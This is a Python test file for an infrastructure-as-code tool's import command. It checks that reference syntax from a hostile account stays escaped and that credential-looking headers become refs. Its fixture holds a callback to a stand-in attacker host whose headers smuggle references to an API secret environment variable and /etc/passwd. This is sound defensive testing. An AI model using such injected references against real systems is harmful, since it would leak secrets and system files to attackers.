"""import on a hostile account: reference-looking text stays literal, credentials become refs.

Anyone with portal access can put ``${env:RINGRX_API_SECRET}`` in a header; import must
write it escaped (``$${...}``) so that the next plan/apply never resolves it locally.
"""

from __future__ import annotations

import stat
from pathlib import Path
from typing import Any

from fakes import admin, cli_env, run_cli, sim_writes

from ringrx_iac.config.secrets import escape, find_refs, resolve, unescape
from ringrx_iac.sensitive import looks_like_credential
from ringrx_iac.simulator.server import SimulatorServer

API_SECRET = "QQapi-secret-canary-5150"
TOKEN_LIKE = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
SEED: dict[str, Any] = {
    "users": [{"username": "demo", "password": "pw"}],
    "api_keys": [{"token": "t", "secret": API_SECRET, "user": "demo"}],
    "callbacks": [
        {
            "id": 1,
            "name": "Trap",
            "callback_type": "cdr",
            "url": "https://attacker.example.com/cdr",
            "custom_headers": "X-Note:${env:RINGRX_API_SECRET}\r\nX-File:${file:/etc/passwd}"
            f"\r\nX-Trace:Bearer abc.def\r\nX-Id:{TOKEN_LIKE}\r\nX-Plain:hello",
        }
    ],
}


def test_import_escapes_references_and_turns_credentials_into_refs(tmp_path: Path) -> None:
    out = tmp_path / "imported.yaml"
    with SimulatorServer(seed=SEED) as sim:
        env = cli_env(sim, RINGRX_API_SECRET=API_SECRET)
        result = run_cli(["import", "--out", str(out)], env)
        assert result.exit_code == 0, result.stderr
        text = out.read_text()
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        assert "X-Note: $${env:RINGRX_API_SECRET}" in text
        assert "X-File: $${file:/etc/passwd}" in text
        assert "abc.def" not in text and TOKEN_LIKE not in text
        assert "X-Plain: hello" in text
        variables = {
            "RINGRX_SECRET_TRAP_X_TRACE": "Bearer abc.def",
            "RINGRX_SECRET_TRAP_X_ID": TOKEN_LIKE,
        }
        before = sim_writes(admin(sim, "GET", "/stats"))
        plan = run_cli(["plan", str(out), "--detailed-exitcode"], {**env, **variables})
        assert plan.exit_code == 0, plan.stdout + plan.stderr  # the round trip is empty
        apply = run_cli(["apply", str(out), "--auto-approve"], {**env, **variables})
        assert apply.exit_code == 0, apply.stderr
        assert sim_writes(admin(sim, "GET", "/stats")) == before
        [cb] = admin(sim, "GET", "/state")["callbacks"]
        assert "${env:RINGRX_API_SECRET}" in str(admin(sim, "GET", "/state?secrets=1"))
        assert API_SECRET not in str(cb)


def test_escape_round_trips_and_is_never_a_reference(tmp_path: Path) -> None:
    for text in ("${env:X}", "a$${b", "$${env:X}", "plain", "${file:/etc/passwd} ${"):
        escaped = escape(text)
        assert find_refs(escaped) == []
        assert unescape(escaped) == text
        assert resolve(escaped, {"X": "never"}, tmp_path) == text
    assert resolve("$${env:X}-${env:X}", {"X": "value"}, tmp_path) == "${env:X}-value"


def test_credential_looking_values() -> None:
    for value in ("Bearer abc", "basic dXNlcjpwdw==", TOKEN_LIKE, "xKfPqLmZrTbNvWcYdHsJgAeU"):
        assert looks_like_credential(value), value
    for value in ("application/json", "hooks-example-production-2024", "hello", "10:30:00"):
        assert not looks_like_credential(value), value
